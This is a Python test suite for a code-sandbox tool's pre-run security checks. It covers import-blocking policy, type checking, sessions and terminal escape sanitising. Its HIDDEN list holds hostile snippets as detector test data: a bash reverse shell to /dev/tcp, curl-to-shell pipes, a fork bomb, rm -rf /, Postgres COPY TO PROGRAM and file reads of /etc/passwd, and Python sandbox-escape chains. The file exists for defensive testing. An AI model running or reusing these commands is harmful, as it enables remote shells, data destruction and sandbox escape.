#!/usr/bin/python3
# tests/run: args=--as root | --as user
# tests/run: builds=release asan
# tests/run: asan=--as root
# tests/run: timeout=180
"""The look before a run: check, the policy of the settings, its lists, and who may leave it out."""

import fcntl
import json
import os
import struct
import sys
import termios

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
import kit
from service import Service
from web import Web

BLOCKED = "Security policy blocked import: os"
BLOCK = {"SANDBOX_BLOCK_DANGEROUS_IMPORTS": "true"}


def home(registry=None):
    place = kit.tmp()
    if registry:
        kit.write(os.path.join(place, "registry.yaml"), registry, 0o600)
    return place


def edit(place, text):
    """As editors do it: another file in its place."""
    os.rename(kit.write(os.path.join(place, "registry.yaml.new"), text, 0o600), os.path.join(place, "registry.yaml"))


def at_terminal(place, *args, env=None):
    """What the command shows at a terminal of 24 by 500, and how it ends."""
    ours, theirs = os.openpty()
    fcntl.ioctl(theirs, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 500, 0, 0))
    if kit.mode != "root":
        os.fchown(theirs, kit.UID, kit.UID)
    process = kit.start([kit.built(), *args], env={"EMBERBOX_HOME": place, "TERM": "xterm", "NO_COLOR": "1", **(env or {})},
                        stdin=theirs, stdout=theirs, stderr=theirs)
    os.close(theirs)
    said = b""
    while True:
        try:
            block = os.read(ours, 65536)
        except OSError:  # EIO: nobody has the other side any more
            block = b""
        if not block:
            break
        said += block
    os.close(ours)
    return said, process.wait(30)


def run(place, *args, env=None, stdin=None):
    return kit.emberbox(*args, env={"EMBERBOX_HOME": place, **(env or {})}, stdin=stdin)


def events(place, name):
    lines = run(place, "audit", "--json").text.splitlines()
    return [e for e in map(json.loads, lines) if e["event"] == name]


@kit.test
def check_tells_and_runs_nothing():
    place = home()
    path = kit.write(os.path.join(place, "a.py"), 'import os\nos.system("touch gone")\ndef f(:\n')
    r = run(place, "check", path)
    kit.equal(r.code, 1)
    kit.equal(r.text.splitlines()[:4], ["1:8 high import os: would be refused by --policy block: files, processes and the environment", "    import os",
                                        "2:1 high os.system: starts a shell", '    os.system("touch gone")'])
    report = json.loads(run(place, "check", path, "--json").text)
    kit.equal((report["language"], report["checked"], report["clean"], report["blocked_imports"]), ("python", True, False, ["os"]))
    kit.equal([(e["line"], e["column"]) for e in report["syntax_errors"]], [(3, 7)])
    kit.equal((report["findings"][0]["rule"], report["findings"][0]["severity"]), ("os.system", "high"))
    # Where the settings refuse it, it is blocked; where they only warn, it would be.
    for settings, word in (({"EMBERBOX_POLICY": "block"}, "blocked"), ({"SANDBOX_BLOCK_DANGEROUS_IMPORTS": "true"}, "blocked"),
                           ({"EMBERBOX_POLICY": "warn"}, "would be refused by --policy block")):
        told = run(place, "check", path, env=settings).text.splitlines()[0]
        kit.equal(told, f"1:8 high import os: {word}: files, processes and the environment")
    clean = run(place, "check", "-l", "python", "-", stdin=b"print(1)\n")
    kit.equal((clean.code, clean.text), (0, "python: no findings\n"))


TYPE_ERROR = "1:7 type error: Type 'string' is not assignable to type 'number'. (TS2322)\n    const x: number = \"a\"\n"


@kit.test(timeout=60)
def types_are_checked_by_the_compiler():
    place = home()
    wrong = run(place, "check", "-l", "typescript", "-", stdin=b'const x: number = "a"\n')
    kit.equal((wrong.code, wrong.text, wrong.err), (1, TYPE_ERROR, b""))
    right = run(place, "check", "-l", "typescript", "-", stdin=b'const x: string = "a"\nconsole.log(x)\n')
    kit.equal((right.code, right.text, right.err), (0, "typescript: no findings\n", b""))
    # It says what a run would, and nothing of the program is executed: not what is right, and not what is wrong.
    path = kit.write(os.path.join(place, "a.tsx"), 'console.log("ran")\nlet é = q, n: number = "é"\nz()\n')
    told = json.loads(run(place, "check", path, "--json").text)
    kit.equal((told["checked"], told["clean"], told["types_checked"], told["types_unchecked_because"], told["syntax_errors"]),
              (True, False, True, None, []))
    kit.equal([(e["line"], e["column"], e["code"], e["message"], e["text"]) for e in told["type_errors"]],
              [(2, 9, "TS2304", "Cannot find name 'q'.", 'let é = q, n: number = "é"'),
               (2, 12, "TS2322", "Type 'string' is not assignable to type 'number'.", 'let é = q, n: number = "é"'),
               (3, 1, "TS2304", "Cannot find name 'z'.", "z()")])
    kit.true("ran" not in run(place, "check", path).text.replace('console.log("ran")', ""), "it ran")
    # A language without types says nothing of them.
    kit.true("types_checked" not in json.loads(run(place, "check", "-l", "python", "-c", "1", "--json").text), "python")


@kit.test(timeout=60)
def many_type_errors_are_cut():
    place = home()
    for count, shown in ((100, 100), (101, 100)):
        code = "".join(f"missing_{i}()\n" for i in range(count))
        told = json.loads(run(place, "check", "-l", "ts", "-", "--json", stdin=code.encode()).text)
        kit.equal([e["line"] for e in told["type_errors"]], list(range(1, shown + 1)))
        kit.equal(told["truncated"], count > shown)
    kit.true(run(place, "check", "-l", "ts", "-", stdin=code.encode()).text.endswith("    missing_99()\nand more\n"), "cut")


@kit.test(timeout=60)
def no_check_and_wrong_syntax_leave_the_compiler_out():
    place = home()
    r = run(place, "check", "-l", "typescript", "--no-check", "-", stdin=b'const x: number = "a"\n')
    kit.equal((r.code, r.text, r.err), (0, "typescript: no findings\n", b""))
    kit.true("type_errors" not in json.loads(run(place, "check", "-l", "ts", "-c", "1", "--no-check", "--json").text), "left out")
    r = run(place, "check", "-l", "typescript", "-", stdin=b'let (x =\nconst y: number = "a"\n')
    kit.equal((r.code, "syntax error" in r.text, "type" in r.text), (1, True, False))


def with_compiler(tool, script):
    """A home whose TypeScript has this tool for its compiler."""
    place = home()
    folder = os.path.join(place, "runtimes", "typescript")
    os.makedirs(folder)
    kit.write(os.path.join(folder, "runtime.yaml"), f"""display: TypeScript
extensions: [ts]
file: main.ts
tools:
  tsc: [{tool}]
version: ["{{tsc}}", -c, "echo 1"]
install: sudo npm install -g typescript
compile:
  run: ["{{tsc}}", -c, "{script}"]
  unchecked: ["{{tsc}}", -c, "exit 0"]
  sources: ["*.ts"]
  artifact: main.mjs
run: ["{{tsc}}", "{{artifact}}"]
""")
    return place


@kit.test(timeout=60)
def without_a_compiler_the_look_is_what_it_was():
    for tool, script, why in (("/nonexistent/tsc", "exit 0", "TypeScript is not installed on this machine; install it with: sudo npm install -g typescript"),
                              ("/bin/sh", "exit 3", "Execution failed: exit code 3"),
                              ("/bin/sh", "kill -9 $$", "Execution failed: ended by signal SIGKILL (Killed)")):
        place = with_compiler(tool, script)
        clean = run(place, "check", "-l", "typescript", "-", stdin=b'const x: number = "a"\n')
        kit.equal((clean.code, clean.err), (0, b""), script)
        kit.equal(clean.text, f"typescript: types are not checked: {why}\ntypescript: no findings\n")
        told = json.loads(run(place, "check", "-l", "typescript", "-c", "eval('1')", "--json").text)
        kit.equal((told["types_checked"], told["types_unchecked_because"], told["type_errors"]), (False, why, []))
        kit.equal((told["clean"], len(told["findings"])), (False, 1))


# Ways to hide a call, each beside what only looks like it.
HIDDEN = [
    ('python', 'globals()["__builtins__"].__import__("os").system("ls")', 'globals()["x"].imports("os")'),
    ('python', 'globals()["__builtins__"]["eval"]("1")', 'globals()["x"]["eval"]'),
    ('python', 'getattr(__builtins__, "eval")("1")', 'getattr(config, "evaluate")("1")'),
    ('python', '__builtins__.__dict__["eval"]("1")', 'obj.__dict__["name"]'),
    ('python', 'vars(__builtins__)["exec"]("1")', 'vars(obj)["exec"]'),
    ('python', '().__class__.__bases__[0].__subclasses__()', 'x.__class__.__name__'),
    ('python', 'x = "".__class__.__mro__[1]', 'x = "".__class__.__name__'),
    ('python', 'f.__globals__["os"]', 'f.__name__'),
    ('python', 'e = eval\ne("1")', 'e = evaluate\ne("1")'),
    ('python', 'import sys\nsys.modules["os"].system("ls")', 'mods["os"].system("ls")'),
    ('python', 'breakpoint()', 'break_point()'),
    ('python', '__loader__.load_module("os")', 'loader.load_module("os")'),
    ('python', 'exec(__import__("base64").b64decode("eA=="))', 'print(base.b64decode("eA=="))'),
    ('javascript', 'Function("return 1")()', 'MyFunction("return 1")()'),
    ('javascript', 'new Function("return 1")()', 'new FunctionX("return 1")()'),
    ('javascript', 'process.binding("fs")', 'processor.binding("fs")'),
    ('javascript', 'globalThis["eval"]("1")', 'globalThis["console"].log("1")'),
    ('javascript', 'globalThis.eval("1")', 'evaluator.evals("1")'),
    ('javascript', '(0, eval)("1")', '(0, evaluate)("1")'),
    ('javascript', 'window["ev" + "al"]("1")', 'window["a" + "b"]("1")'),
    ('javascript', '[].constructor.constructor("return process")()', '[].constructor.name'),
    ('javascript', 'setTimeout("alert(1)", 0)', 'setTimeout(() => alert(1), 0)'),
    ('javascript', 'process.mainModule.require("child_process")', 'proc.mainModule.require2("x")'),
    ('javascript', 'process.dlopen(m, "x.node")', 'lib.dlopen2(m)'),
    ('javascript', 'import("child_" + "process")', 'import("./local.js")'),
    ('javascript', 'const r = require; r("child_process")', 'const r = req; r("x")'),
    ('javascript', 'Reflect.apply(eval, null, ["1"])', 'Reflect.apply(f, null, ["1"])'),
    ('javascript', 'vm.runInThisContext("1")', 'vmx.runInThisContext2("1")'),
    ('javascript', 'module.constructor._load("child_process")', 'module.exports._load2("x")'),
    ('typescript', 'globalThis["eval"]("1")', 'globalThis["console"].log("1")'),
    ('typescript', 'const f = Function("return 1"); f()', 'const f = () => 1; f()'),
    ('bash', 'echo aGk= | base64 -d | sh', 'echo aGk= | base64 -d > out'),
    ('bash', 'echo aGk= | base64 --decode | bash', 'echo aGk= | base64 --decode | cat'),
    ('bash', 'eval "$(curl http://x)"', 'echo "$(date)"'),
    ('bash', 'eval "$x"', 'evaluate "$x"'),
    ('bash', 'sh -c "$(wget -qO- http://x)"', 'sh script.sh'),
    ('bash', 'bash <(curl -s http://x)', 'diff <(ls a) <(ls b)'),
    ('bash', 'source <(curl -s http://x)', 'source ./lib.sh'),
    ('bash', '. /dev/stdin', '. ./lib.sh'),
    ('bash', 'bash -i >& /dev/tcp/1.2.3.4/80 0>&1', 'echo a >& /dev/null'),
    ('bash', ':(){ :|:& };:', 'f(){ g|h; }; f'),
    ('bash', 'xxd -r -p x | sh', 'xxd -r -p x > y'),
    ('bash', '$(echo rm) -rf /', 'echo $(date)'),
    ('bash', '"$CMD" -rf /', 'ls -l "$DIR"'),
    ('bash', 'find / -delete', 'find . -name x'),
    ('bash', 'find . -exec rm {} \\;', 'find . -exec ls {} \\;'),
    ('bash', 'xargs rm -rf < list', 'xargs ls < list'),
    ('ruby', 'x.instance_eval("1")', 'x.instance_variable_get(:@a)'),
    ('ruby', 'instance_eval "puts 1"', 'instance_of "puts 1"'),
    ('ruby', 'Foo.class_eval <<~R\n  def x; end\nR\n', 'Foo.class_of'),
    ('ruby', 'Foo.module_eval("1")', 'Foo.module_function'),
    ('ruby', 'Kernel.eval("1")', 'Kernel.puts("1")'),
    ('ruby', 'binding.eval("1")', 'binding.local_variables'),
    ('ruby', 'obj.send(:system, "ls")', 'obj.send(:name, "ls")'),
    ('ruby', 'Kernel.send("sys" + "tem", "ls")', 'Foo.send("a", "ls")'),
    ('ruby', 'Object.const_get(:Process).spawn("ls")', 'Object.new.spawned("ls")'),
    ('ruby', '%x(ls)', '%w(ls)'),
    ('ruby', 'method(:system).call("ls")', 'method(:name).call("ls")'),
    ('ruby', 'IO.read("|ls")', 'IO.read("ls")'),
    ('ruby', 'ObjectSpace.each_object(Class)', 'Space.each_object(Class)'),
    ('sqlite', "ATTACH DATABASE '/etc/x.db' AS x;", "SELECT 'attach' AS x;"),
    ('sqlite', "SELECT load_extension('x.so');", "SELECT length('x.so');"),
    ('sqlite', "SELECT writefile('/tmp/x', 'a');", "SELECT upper('a');"),
    ('sqlite', 'PRAGMA writable_schema = ON;', 'PRAGMA table_info(t);'),
    ('sqlite', "VACUUM INTO '/tmp/x';", 'VACUUM;'),
    ('postgres', "COPY t FROM PROGRAM 'ls';", 'COPY t FROM STDIN;'),
    ('postgres', "COPY t TO PROGRAM 'sh';", "SELECT 'program';"),
    ('postgres', "COPY t TO '/tmp/x';", 'SELECT 1;'),
    ('postgres', "SELECT lo_import('/etc/passwd');", "SELECT lower('/etc/passwd');"),
    ('postgres', "SELECT lo_export(1, '/tmp/x');", "SELECT upper('x');"),
    ('postgres', "SELECT * FROM dblink('host=x', 'select 1') AS t(a int);", 'SELECT * FROM links;'),
    ('postgres', "SELECT pg_read_file('/etc/passwd');", 'SELECT pg_typeof(1);'),
    ('postgres', "SELECT pg_ls_dir('/');", 'SELECT version();'),
    ('postgres', "DO $$ BEGIN EXECUTE 'drop table t'; END $$;", "SELECT 'execute';"),
    ('postgres', 'CREATE EXTENSION plpython3u;', 'CREATE TABLE plpython3u (a int);'),
    ('postgres', 'ALTER ROLE x SUPERUSER;', 'ALTER TABLE t ADD COLUMN a int;'),
    ('postgres', 'GRANT ALL ON t TO PUBLIC;', "SELECT 'grant';"),
    ('postgres', 'SELECT pg_terminate_backend(1);', 'SELECT pg_backend_pid();'),
    ('c', '#include <stdlib.h>\nint main(void) { return system("ls"); }', 'int systems(void);\nint main(void) { return systems(); }'),
    ('c', '#include <stdio.h>\nint main(void) { popen("ls", "r"); }', 'int main(void) { return 0; }'),
    ('c', 'int main(void) { __asm__("int $0x80"); }', 'int assembly(int);\nint main(void) { return assembly(1); }'),
    ('c', 'int main(void) { asm volatile ("syscall"); }', 'int main(void) { int asmx = 1; return asmx; }'),
    ('c', 'int (*f)(const char *) = system;\nint main(void) { return f("ls"); }', 'int (*f)(const char *) = puts;\nint main(void) { return f("ls"); }'),
    ('c', '#define RUN system\nint main(void) { RUN("ls"); }', '#define RUN puts\nint main(void) { RUN("ls"); }'),
    ('c', '#include <sys/mman.h>\nint main(void) { mmap(0, 1, 7, 1, 0, 0); }', 'int mapped(void);\nint main(void) { return mapped(); }'),
    ('c', '#include <sys/ptrace.h>\nint main(void) { ptrace(0); }', 'int trace(void);\nint main(void) { return trace(); }'),
    ('go', 'package main\nimport "os/exec"\nfunc main() { exec.Command("ls").Run() }', 'package main\nimport "fmt"\nfunc main() { fmt.Println("os") }'),
    ('go', 'package main\nimport x "os/exec"\nfunc main() { x.Command("ls").Run() }', 'package main\nimport x "fmt"\nfunc main() { x.Println() }'),
    ('go', 'package main\nimport "unsafe"\nfunc main() { var a int; _ = unsafe.Pointer(&a) }', 'package main\nimport "strings"\nfunc main() { _ = strings.ToUpper("a") }'),
    ('go', 'package main\nimport "C"\nfunc main() {}', 'package main\nimport "fmt"\nfunc main() { fmt.Println("C") }'),
    ('go', 'package main\nimport "syscall"\nfunc main() { syscall.Exec("/bin/sh", nil, nil) }', 'package main\nimport "errors"\nfunc main() { _ = errors.New("a") }'),
    ('go', 'package main\nimport "plugin"\nfunc main() { plugin.Open("x.so") }', 'package main\nimport "sort"\nfunc main() { sort.Ints(nil) }'),
    ('go', 'package main\nimport "os"\nfunc main() { os.StartProcess("ls", nil, nil) }', 'package main\nimport "fmt"\nfunc main() { fmt.Println("os") }'),
    ("ruby", "x.instance_eval('1')", "x.instance_eval { @a }"),
    ("ruby", "Foo.class_eval('1')", "Foo.class_eval do\n  def x; end\nend\n"),
]


def told(language, code):
    """What is told of it beyond what every program does."""
    report = json.loads(run(home(), "check", "-l", language, "-", "--json", stdin=code.encode()).text)
    imports = [i["module"] for i in report["imports"] if i["blocked"] or i["how"] == "computed"]
    return [f["rule"] for f in report["findings"] if f["severity"] != "low"] + imports, report["syntax_errors"]


def hidden(language):
    for bad, good in ((bad, good) for of, bad, good in HIDDEN if of == language):
        kit.true(told(language, bad)[0], bad)
        kit.equal(told(language, good), ([], []), good)


for _language in sorted({of for of, _, _ in HIDDEN}):
    kit.test(lambda of=_language: hidden(of), name="hidden_" + _language, timeout=60)


@kit.test
def statements_that_the_grammar_does_not_have_are_no_mistakes():
    for language, code in (("sqlite", "PRAGMA foreign_keys = ON;\nATTACH 'a.db' AS a;\nSELECT 1;\n"), ("postgres", "COPY t FROM STDIN;\nDO $x$ BEGIN NULL; END $x$;\nSELECT 1;\n")):
        kit.equal(told(language, code)[1], [], code)
    # Beside one, and inside a text, a mistake is one.
    kit.equal([e["line"] for e in told("sqlite", "PRAGMA a;\nSELECT (1;\n")[1]], [2])
    kit.true(told("sqlite", "SELECT 'PRAGMA a;', (1;\n")[1], "inside a text")


@kit.test
def a_line_is_said_once():
    r = run(home(), "check", "-l", "python", "-", stdin=b"x = (1\n")
    kit.equal((r.code, r.text), (1, "1:1 syntax error: unexpected or missing token\n    x = (1\n"))


@kit.test
def check_says_what_it_cannot():
    place = home()
    kit.equal(run(place, "check", "-l", "lua", "-c", "x = 1").code, 125)
    kit.equal(run(place, "check", "-l", "nonsense", "-c", "x").code, 127)
    kit.equal(run(place, "check").code, 2)
    kit.equal(run(place, "check", "/nowhere/a.py").code, 2)
    r = run(place, "check", "-l", "python", "-c", "x", env={"EMBERBOX_POLICY": "maybe"})
    kit.equal(r.code, 2)
    kit.contains(r.errtext, 'EMBERBOX_POLICY: "maybe" is not one of off, warn, block')


@kit.test
def a_blocked_import_is_not_run():
    place = home()
    r = run(place, "run", "--cold", "-l", "python", "-c", "print(1)\nimport os, math, socket", "--json", env=BLOCK)
    kit.equal((r.code, r.json["status"], r.json["exit_code"], r.json["error_message"]), (126, "blocked", 126, BLOCKED))
    kit.equal((r.json["meta"]["blocked_imports"], r.json["stdout"]), (["os", "socket"], ""))
    plain = run(place, "run", "--cold", "-l", "python", "-c", "import os", env=BLOCK)
    kit.equal((plain.code, plain.errtext), (126, f"emberbox: {BLOCKED}\n"))
    # Beside it: what imports nothing of the list runs, and without the setting everything does.
    allowed = run(place, "run", "--cold", "-l", "python", "-c", "import math; print(math.floor(2.5))", env=BLOCK)
    kit.equal((allowed.code, allowed.text), (0, "2\n"))
    kit.equal(run(place, "run", "--cold", "-l", "python", "-c", "import os; print(3)").text, "3\n")
    listed = json.loads(run(place, "history", "--json").text)
    kit.equal([e["status"] for e in listed["executions"]].count("blocked"), 2)


@kit.test
def files_are_looked_at_too():
    place = home()
    own = kit.write(os.path.join(place, "own.py"), "import os\n")
    r = run(place, "run", "--cold", "-l", "python", "-c", "import own", "--file", own, env=BLOCK)
    kit.equal((r.code, r.errtext), (126, f"emberbox: {BLOCKED}\n"))
    r = run(place, "run", "--cold", "-l", "python", "--project", place, "--entry", "own.py", env=BLOCK)
    kit.equal((r.code, r.errtext), (126, f"emberbox: {BLOCKED}\n"))
    # What the box would find by a link the host may not have, or have as something that is not the project's.
    absent = (2, 'emberbox: entry: "entry.py" is not in the project: No such file or directory\n')
    outside = (126, "emberbox: Security policy cannot check the program: the link leads out of the project\n")
    kit.write(os.path.join(place, "project", "plain"), "import os; print('ran')\n")
    secret = kit.write(os.path.join(place, "secret.py"), "import socket\n")
    for link, told in (("/sandbox/code/plain", absent), ("../code/plain", absent), (secret, outside), ("../secret.py", outside)):
        entry = os.path.join(place, "project", "entry.py")
        os.symlink(link, entry)
        r = run(place, "run", "--cold", "-l", "python", "--project", os.path.dirname(entry), "--entry", "entry.py", env=BLOCK)
        kit.equal((r.code, r.errtext), told, link)
        os.unlink(entry)
    kit.write(os.path.join(place, "project", "fine.py"), "print('fine')\n")
    os.symlink("fine.py", entry)
    r = run(place, "run", "--cold", "-l", "python", "--project", os.path.dirname(entry), "--entry", "entry.py", env=BLOCK)
    kit.equal((r.code, r.text), (0, "fine\n"), r.errtext)
    data = kit.write(os.path.join(place, "own.txt"), "import os\n")
    kit.equal(run(place, "run", "--cold", "-l", "python", "-c", "print(1)", "--file", data, env=BLOCK).code, 0)


@kit.test
def a_warning_is_told_with_the_result():
    place = home()
    r = run(place, "run", "--cold", "-l", "python", "-c", "import os\nprint(1)", "--json", "--policy", "warn")
    kit.equal((r.code, r.json["stdout"]), (0, "1\n"))
    kit.equal((r.json["meta"]["policy_warnings"], r.json["meta"]["blocked_imports"]), (["line 1: import os"], []))
    warned = ("run", "--cold", "-l", "python", "-c", "import os\nprint(1)")
    r = run(place, *warned, "--policy", "warn")
    kit.equal((r.code, r.text, r.errtext), (0, "1\n", "emberbox: policy: line 1: import os\n"))
    for manner in (("--policy", "warn", "--quiet"), ()):
        r = run(place, *warned, *manner)
        kit.equal((r.code, r.text, r.errtext), (0, "1\n", ""))
    r = run(place, "run", "--cold", "-l", "python", "-c", "1", "--policy", "loud")
    kit.equal(r.code, 2)
    kit.contains(r.errtext, 'policy: "loud" is not one of off, warn, block')


@kit.test
def lists_of_the_registry_count():
    place = home("policy:\n  py: {block: [json], allow: [os.path]}\n")
    for code, want in (("import json", 126), ("import os.path", 0), ("import os", 126), ("import math", 0)):
        kit.equal(run(place, "run", "--cold", "-l", "python", "-c", code, "--policy", "block").code, want, code)
    bad = home("policy:\n  python: {blocks: [json]}\n")
    r = run(bad, "run", "--cold", "-l", "python", "-c", "1")
    kit.equal(r.code, 2)
    kit.matches(r.errtext, r'registry.yaml:2:\d+: policy.python: unknown key "blocks"; did you mean "block"\?')


@kit.test
def leaving_it_out_is_written_down():
    place = home()
    r = run(place, "run", "--cold", "-l", "python", "-c", "import os; print(1)", "--policy", "off", env=BLOCK)
    kit.equal((r.code, r.text), (0, "1\n"))
    kit.equal([(e["reason"], e["door"], e["how"]) for e in events(place, "policy_bypassed")], [("policy", "cli", "--policy")])


@kit.test(timeout=60)
def the_service_has_the_same_policy():
    running = Service(listen=True, home=home("containers: {py: {language: python}}\npolicy: {python: {block: [json]}}\n"),
                      env=BLOCK)
    asking = Web(running)
    for code, status in (("import os", "blocked"), ("import json", "blocked"), ("print(1)", "ok")):
        kit.equal(asking.post("/v1/execute", {"language": "python", "code": code}).json["status"], status, code)
    answer = asking.post("/v1/execute", {"language": "python", "code": "import os"})
    kit.equal((answer.status, answer.json["exit_code"], answer.json["meta"]["blocked_imports"]), (200, 126, ["os"]))
    started = asking.post("/containers/start", {"container": "py", "code": "import json"}).json
    kit.equal(started["result"]["status"], "blocked")
    inside = {"id": started["id"]}
    kit.equal(asking.post("/containers/exec", {**inside, "code": "import os"}).json["error_message"], BLOCKED)
    kit.equal(asking.post("/containers/exec", {**inside, "code": "print(2)"}).json["stdout"], "2\n")


@kit.test(timeout=120)
def sessions_have_it_too():
    place = home("policy: {python: {block: [json], allow: [sys, pathlib]}, bash: {block: [json]}}\n")
    running = Service(listen=True, home=place, env=BLOCK)
    asking = Web(running, unix=True)
    session = asking.post("/v1/sessions", {"language": "python"}).json["id"]
    inside, files = f"/v1/sessions/{session}/execute", f"/v1/sessions/{session}/files/code"
    cells = (("import json", "blocked"), ("import os", "blocked"), ("import sys, math", "ok"))
    for code, status in cells:
        kit.equal(asking.post(inside, {"code": code}).json["status"], status, code)
        kit.equal(asking.post("/v1/execute", {"session": session, "code": code}).json["status"], status, code)
        with running.connect() as client:
            kit.equal(client.request({"session": session, "code": code})[1]["status"], status, code)
    refusal = (403, "blocked", None)
    blocked = asking.request("PUT", f"{files}/own.py", b"import json\n")
    kit.equal((blocked.error, blocked.message), (refusal, "Security policy blocked import: json"))
    kit.equal(asking.get(f"{files}/own.py").status, 404, "it was written")
    kit.equal(asking.request("PUT", f"{files}/own.py", b"import math\n").status, 201)
    kit.equal(asking.request("PUT", f"{files}/deep/er/own.py", b"import json\n").error, refusal)
    # In parts, and under another name.
    kit.equal(asking.request("PUT", f"{files}/own.py?offset=7", b"json").error, refusal)
    kit.equal(asking.get(f"{files}/own.py").body, b"import math\n")
    kit.equal(asking.request("PUT", f"{files}/own.py?offset=7", b"cmat").status, 200)
    kit.equal(asking.request("PUT", f"{files}/text", b"import json\n").status, 201)
    kit.equal(asking.post(f"{files}/text", {"move": "code/text.py"}).error, refusal)
    kit.equal(asking.post(f"{files}/text", {"move": "code/text.txt"}).status, 200)
    large = asking.request("PUT", f"{files}/large.py", b"#" * ((4 << 20) + 1))
    kit.equal((large.error, large.message), (refusal, "Security policy cannot check the file: it is larger than 4 MiB"))
    # A file that cannot be read could be anything, also under the name of a source.
    path = "/sandbox/data/hidden"
    asking.request("PUT", f"/v1/sessions/{session}/files/data/hidden", b"import json\n")
    shut = asking.post(inside, {"code": f"import pathlib; pathlib.Path({path!r}).chmod(0)"})
    kit.equal(shut.json["status"], "ok", shut.json["error_message"])
    hidden = asking.post(f"/v1/sessions/{session}/files/data/hidden", {"move": "code/hidden.py"})
    kit.equal((hidden.error, hidden.message), (refusal, "Security policy cannot check the file: it cannot be read"))
    kit.equal(asking.post(f"/v1/sessions/{session}/files/data/hidden", {"move": "code/hidden.txt"}).status, 200)
    # Those that a session or a container starts with, and those beside a command.
    given = {"files": {"own.py": "import json\n"}}
    kit.equal(asking.post("/v1/sessions", {"language": "python", **given}).error, refusal)
    kit.equal(asking.post("/v1/sessions", {"language": "python", "files": {"own.py": "import sys\n"}}).status, 201)
    edit(place, "containers: {py: {language: python}}\npolicy: {python: {block: [json], allow: [sys]}}\n")
    kit.eventually(lambda: asking.get("/containers").json["containers"], "the edit is not seen")
    kit.equal(asking.post("/containers/start", {"container": "py", **given}).error, refusal)
    box = asking.post("/containers/start", {"container": "py"}).json["id"]
    command = {"id": box, "command": "cat own.py"}
    kit.equal(asking.post("/containers/exec", {**command, **given}).json["status"], "blocked")
    kit.equal(asking.post("/containers/exec", {**command, "files": {"own.py": "1"}}).json["stdout"], "1")
    # What the registry says now holds for the next cell, and the next run in a container.
    edit(place, "policy: {py: {block: [math]}}\n")
    code = {"code": "import math"}
    kit.eventually(lambda: asking.post(inside, code).json["status"] == "blocked", "the stricter list is not seen")
    kit.equal(asking.post("/containers/exec", {"id": box, **code}).json["status"], "blocked")
    kit.equal(asking.request("PUT", f"{files}/own.py", b"import math\n").error, refusal)
    kit.equal(asking.post(inside, {"code": "import json"}).json["status"], "ok")


@kit.test(timeout=60)
def a_session_keeps_the_policy_that_it_asked_for():
    asking = Web(Service(listen=True, home=home()))
    strict = asking.post("/v1/sessions", {"language": "python", "policy": "block"}).json["id"]
    plain = asking.post("/v1/sessions", {"language": "python"}).json["id"]
    for session, status in ((strict, "blocked"), (plain, "ok")):
        kit.equal(asking.post(f"/v1/sessions/{session}/execute", {"code": "import os"}).json["status"], status)
        put = asking.request("PUT", f"/v1/sessions/{session}/files/code/own.py", b"import os\n")
        kit.equal(put.status, 403 if status == "blocked" else 201)


STEERS = "\x1b]0;owned\x07\x1b[6n\x9b31m\u202e"  # a title, a question to the terminal, a C1 control, the direction of writing


@kit.test(timeout=90)
def nothing_of_a_stranger_steers_the_terminal():
    place = home()
    code = f"import os # {STEERS}\nos.system('x') # {STEERS}\nraise ValueError('{STEERS}')\n"
    source = kit.write(os.path.join(place, "own.py"), code)
    done = run(place, "run", "--cold", source, "--json", env={"SANDBOX_STORE_CODE": "always"})
    kit.equal((done.json["status"], done.json["error"]["type"]), ("failed", "ValueError"))
    kit.contains(done.json["error"]["message"], STEERS, "JSON means what it was")
    kit.true(b"\xc2\x9b" not in done.out and b"\\u009b" in done.out, "a C1 control stands in JSON")
    named = kit.write(os.path.join(place, f"a{STEERS}.nothing"), code)
    shown = {
        "check": ("check", source), "check --json": ("check", source, "--json"), "show": ("show", "last"),
        "report": ("show", "last", "--report"), "show --json": ("show", "last", "--json"), "code": ("show", "last", "--code"),
        "stderr": ("show", "last", "--stderr"), "history": ("history",), "history --json": ("history", "--json"),
        "detect": ("detect", source), "a name": ("check", named), "run a name": ("run", "--cold", named),
        "a language": ("check", "-l", STEERS, source), "an option": ("history", "--" + STEERS), "an id": ("show", STEERS),
        "a command": (STEERS,), "a profile": ("run", "--profile", STEERS, source), "audit": ("audit",),
    }
    for what, args in shown.items():
        said, _ = at_terminal(place, *args)
        kit.true(len(said) > 5, what)
        for bad in (b"\x07", b"\x1b]", b"\x1b[6n", b"\xc2\x9b", b"\xe2\x80\xae"):
            # What a program printed keeps what does not steer: the direction of its text is its own.
            if bad != b"\xe2\x80\xae" or what not in ("code", "stderr"):
                kit.true(bad not in said, f"{what}: {bad!r} in {said[:400]!r}")
    for what in ("check", "report", "a name"):
        kit.contains(at_terminal(place, *shown[what])[0].decode(), "\\u001b]0;owned\\u0007\\u001b[6n\\u009b31m\\u202e", what)
    # In a pipe the bytes of a program are its own.
    kit.contains(run(place, "show", "last", "--stderr").errtext + run(place, "show", "last", "--stderr").text, STEERS)


def unsteered(place, cases):
    """That no command says at a terminal what steers it, and each says something; what they said."""
    shown = {}
    for what, args in cases.items():
        said, _ = at_terminal(place, *args)
        kit.true(len(said) > 5, what)
        for bad in (b"\x07", b"\x1b]", b"\x1b[6n", b"\xc2\x9b", b"\xe2\x80\xae"):
            kit.true(bad not in said, f"{what}: {bad!r} in {said[:400]!r}")
        shown[what] = said.decode()
    return shown


@kit.test(timeout=90)
def nothing_of_a_session_steers_the_terminal():
    place = home()
    asking = Web(Service(listen=True, home=place), unix=True)
    session = asking.post("/v1/sessions", {"language": "python", "name": "own"}).json["id"]
    code = f"open('/sandbox/output/a{STEERS}b', 'w').write('x')\nprint({STEERS!r})\nraise ValueError({STEERS!r})"
    kit.equal(asking.post(f"/v1/sessions/{session}/execute", {"code": code}).json["status"], "failed")
    shown = unsteered(place, {
        "list": ("session", "list"), "show": ("session", "show", session), "files": ("session", "files", session, "/sandbox/output"),
        "an id": ("session", "show", STEERS), "exec": ("session", "exec", session, "-c", f"raise KeyError({STEERS!r})"),
        "get": ("session", "get", session, f"/sandbox/output/none{STEERS}", "-"), "stop": ("session", "stop", session + STEERS),
    })
    kit.contains(shown["files"], "a\ufffd]0;owned\ufffd")  # in a table each is one cell wide


@kit.test(timeout=90)
def nothing_of_settings_and_languages_steers_the_terminal():
    place, name = home(), "own" + STEERS
    kit.write(os.path.join(place, "runtimes", name, "runtime.yaml"), "display: x\nfoo: 1\n")
    commands = {"config": ("config",), "doctor": ("doctor",), "run": ("run", "--cold", "-l", "bash", "-c", "true")}
    shown = unsteered(place, {
